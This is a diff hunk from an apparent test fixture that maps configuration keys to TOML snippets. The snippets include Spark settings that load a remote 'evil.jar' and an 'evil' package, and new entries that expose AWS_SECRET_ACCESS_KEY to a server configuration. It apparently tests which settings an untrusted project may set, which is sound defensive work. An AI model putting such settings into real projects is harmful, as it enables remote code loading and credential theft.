@@ -26,6 +26,8 @@ schema:
 OWNERS = {
     "references.allow": '[references]\nallow = ["{url}/"]',
     "servers.local": '[servers.local]\ntype = "postgres"\nhost = "127.0.0.1"\nport = "{port}"',
+    "servers.variables": '[servers]\nvariables = ["AWS_SECRET_ACCESS_KEY"]',
+    "servers.hosts": '[servers]\nhosts = ["127.0.0.1"]',
     "spark.master": '[spark]\nmaster = "spark://127.0.0.1:{port}"',
     "spark.conf": '[spark.conf]\n"spark.jars" = "{url}/evil.jar"',
     "spark.packages": '[spark]\npackages = ["com.example:evil:1.0"]',
